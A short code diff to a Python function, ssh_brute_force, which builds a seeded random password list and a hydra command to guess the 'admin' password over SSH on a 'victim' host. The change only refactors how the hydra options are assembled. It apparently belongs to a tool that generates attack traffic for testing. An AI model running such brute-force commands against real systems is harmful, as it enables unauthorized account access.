@@ -126,7 +126,8 @@ def ssh_brute_force(
     rng = random.Random(seed)
     words = folder / "words.txt"
     words.write_text("".join(f"{rng.choice(_WORDS)}{number}\n" for number in range(tries)))
-    argv = ("hydra", "-I", "-l", "admin", "-P", str(words), "-t", "4", "-w", str(wait_secs), f"ssh://{victim}")
+    options = ("-I", "-l", "admin", "-P", str(words), "-t", "4", "-w", str(wait_secs))
+    argv = ("hydra", *options, f"ssh://{victim}")
 
     def guess() -> None:
         # hydra writes hydra.restore where it stands, and its status says nothing about the tries.
